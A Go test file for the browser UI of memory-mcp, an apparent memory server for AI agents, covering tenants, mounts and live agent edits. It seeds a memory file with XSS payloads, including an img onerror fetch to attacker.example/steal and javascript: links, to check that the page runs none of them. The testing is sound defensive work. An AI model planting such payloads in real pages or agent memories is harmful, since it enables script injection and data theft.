package main

import (
	"bufio"
	"context"
	"encoding/json"
	"io"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/modelcontextprotocol/go-sdk/mcp"
)

// browser finds what the browser tests need: node, Debian's chromium and the npm package
// playwright-core (found through NODE_PATH; no browser is ever downloaded). Where one is
// missing they skip, naming it, except in CI (CI=true), where .ci/run installs them.
func browser(t *testing.T) (node, chromium string) {
	t.Helper()
	node = needTool(t, "node", "Node.js")
	chromium = os.Getenv("CHROMIUM")
	if chromium == "" {
		chromium = "/usr/bin/chromium"
	}
	if _, err := os.Stat(chromium); err != nil {
		missing(t, "chromium", "apt-get install chromium")
	}
	if err := exec.Command(node, "-e", "require.resolve('playwright-core')").Run(); err != nil {
		missing(t, "playwright-core", "npm install playwright-core, and NODE_PATH set to its node_modules")
	}
	return node, chromium
}

func missing(t *testing.T, name, install string) {
	t.Helper()
	if os.Getenv("CI") == "true" {
		t.Fatalf("%s is not installed (%s); CI must run this test", name, install)
	}
	t.Skipf("%s is not installed (%s)", name, install)
}

// shotsDir is where the browser tests write their screenshots: MEMORY_MCP_SCREENSHOTS
// (CI keeps them as artifacts), else a temporary directory.
func shotsDir(t *testing.T, sub string) string {
	dir := os.Getenv("MEMORY_MCP_SCREENSHOTS")
	if dir == "" {
		return t.TempDir()
	}
	dir = filepath.Join(dir, sub)
	if err := os.MkdirAll(dir, 0o755); err != nil {
		t.Fatal(err)
	}
	return dir
}

// runBrowser runs testdata/ui/browser.cjs in mode with env, answering its requests for an
// agent's change ("AGENT <path> <JSON text>") with agent, and fails the test if it fails.
func runBrowser(t *testing.T, mode string, env []string, agent func(path, text string)) {
	t.Helper()
	node, chromium := browser(t)
	ctx, cancel := context.WithTimeout(t.Context(), 3*time.Minute)
	defer cancel()
	cmd := exec.CommandContext(ctx, node, filepath.Join("testdata", "ui", "browser.cjs"), mode)
	cmd.Env = append(os.Environ(), append(env, "CHROMIUM="+chromium)...)
	stdin, _ := cmd.StdinPipe()
	stdout, _ := cmd.StdoutPipe()
	var stderr syncBuffer
	cmd.Stderr = &stderr
	if err := cmd.Start(); err != nil {
		t.Fatal(err)
	}
	sc := bufio.NewScanner(stdout)
	for sc.Scan() {
		rest, ok := strings.CutPrefix(sc.Text(), "AGENT ")
		if !ok {
			t.Logf("browser: %s", sc.Text())
			continue
		}
		p, text, _ := strings.Cut(rest, " ")
		var s string
		if err := json.Unmarshal([]byte(text), &s); err != nil {
			t.Errorf("bad AGENT line %q", rest)
		}
		agent(p, s)
		io.WriteString(stdin, "done\n")
	}
	if err := cmd.Wait(); err != nil {
		t.Fatalf("browser test %s failed: %v\n%s", mode, err, stderr.String())
	}
	t.Logf("browser test %s:\n%s", mode, stderr.String())
}

// startUI runs memory-mcp ui with args and returns the address it prints first.
func startUI(t *testing.T, args ...string) string {
	t.Helper()
	cmd := exec.Command(binary, append([]string{"ui"}, args...)...)
	cmd.Env = testEnv(t)
	stdout, _ := cmd.StdoutPipe()
	var stderr syncBuffer
	cmd.Stderr = &stderr
	if err := cmd.Start(); err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { cmd.Process.Signal(os.Interrupt); cmd.Wait() })
	first := make(chan string, 1)
	go func() {
		sc := bufio.NewScanner(stdout)
		if sc.Scan() {
			first <- sc.Text()
		}
		io.Copy(io.Discard, stdout)
	}()
	select {
	case line := <-first:
		if !strings.HasPrefix(line, "http://127.0.0.1:") || !strings.Contains(line, "/ui/login?token=") {
			t.Fatalf("first line of memory-mcp ui is %q, not its address", line)
		}
		return line
	case <-time.After(20 * time.Second):
		t.Fatalf("memory-mcp ui printed no address:\n%s", stderr.String())
	}
	return ""
}

// seed makes the memory the browser tests start from, with the binary's exec (two versions
// of notes.md, and a file a tricked model could write).
func seed(t *testing.T, root string) {
	t.Helper()
	for _, in := range []map[string]any{
		{"command": "create", "path": "/memories/notes.md", "file_text": "# Notes\n\nThe user prefers tabs.\nDeploys happen on Tuesdays.\n"},
		{"command": "create", "path": "/memories/projects/alpha.md", "file_text": "Alpha: due in March.\nOwner: Dana\n"},
		{"command": "create", "path": "/memories/projects/beta.md", "file_text": "Beta: Release on Tuesdays after review.\n"},
		{"command": "str_replace", "path": "/memories/notes.md", "old_str": "tabs", "new_str": "spaces"},
		{"command": "create", "path": "/memories/evil.md", "file_text": "<script>window.__pwned = 1</script>\n" +
			"<img src=x onerror=\"window.__pwned = 2; fetch('https://attacker.example/steal')\">\n" +
			"[click me](javascript:window.__pwned=3) and <a href=\"javascript:alert(1)\">this</a>\n" +
			"<iframe src=\"javascript:alert(2)\"></iframe> <svg onload=alert(3)>\n"},
	} {
		data, _ := json.Marshal(in)
		cmd := exec.Command(binary, "exec", "-root", root, string(data))
		cmd.Env = testEnv(t)
		if out, err := cmd.CombinedOutput(); err != nil {
			t.Fatalf("seed %s: %v\n%s", data, err, out)
		}
	}
}

// The web page of memory-mcp ui in a real browser: tree, keyboard, diff, restore, edit,
// delete, search, an agent's change appearing live, and a memory full of markup that runs
// nothing.
func TestWebPageBrowser(t *testing.T) {
	browser(t)
	root := filepath.Join(t.TempDir(), "m")
	seed(t, root)
	link := startUI(t, "-root", root)
	runBrowser(t, "local", []string{"UI_URL=" + link, "ROOT=" + root, "SHOTS=" + shotsDir(t, "local")}, func(p, text string) {
		// The agent: a memory-mcp of its own over stdio, driven by the official client.
		cmd := exec.Command(binary, "-root", root)
		cmd.Env = testEnv(t)
		cs := connect(t, &mcp.CommandTransport{Command: cmd}, "")
		if out, isErr := callText(t, cs, "memory_create", map[string]any{"path": p, "file_text": text}); isErr {
			t.Errorf("agent's create: %s", out)
		}
		cs.Close()
	})
}

// Tenants on the HTTP transport log in to the page with their bearer token; a read-only
// tenant sees its memory and can change nothing.
func TestWebPageTenantsBrowser(t *testing.T) {
	browser(t)
	ts, file := setupTenants(t)
	srv := startHTTP(t, "http", "-tenants", file, "-root", ts.root)
	runBrowser(t, "tenants", []string{"UI_URL=" + srv.url, "ROOT=" + ts.root, "SHOTS=" + shotsDir(t, "tenants"),
		"RW_TOKEN=" + ts.alice, "RO_TOKEN=" + ts.carol}, nil)
}

// Mounts on the web page in a real browser: top-level folders, a read-write mount's
// history and an edit typed into it, and no change controls on a read-only one.
func TestWebPageMountsBrowser(t *testing.T) {
	browser(t)
	root, me := filepath.Join(t.TempDir(), "m"), filepath.Join(t.TempDir(), "me")
	_, team := mountDirs(t)
	args := []string{"-root", root, "-mount", "me=" + me, "-mount-ro", "team=" + team}
	for _, in := range []string{
		`{"command":"create","path":"/memories/notes.md","file_text":"main\n"}`,
		`{"command":"create","path":"/memories/me/prefs.md","file_text":"Prefers long answers.\n"}`,
		`{"command":"str_replace","path":"/memories/me/prefs.md","old_str":"long","new_str":"short"}`,
	} {
		cmd := exec.Command(binary, append([]string{"exec"}, append(args, in)...)...)
		cmd.Env = testEnv(t)
		if out, err := cmd.CombinedOutput(); err != nil {
			t.Fatalf("seed %s: %v\n%s", in, err, out)
		}
	}
	link := startUI(t, args...)
	runBrowser(t, "mounts", []string{"UI_URL=" + link, "ROOT=" + root, "ROOT_ME=" + me, "ROOT_TEAM=" + team, "SHOTS=" + shotsDir(t, "mounts")}, nil)
}
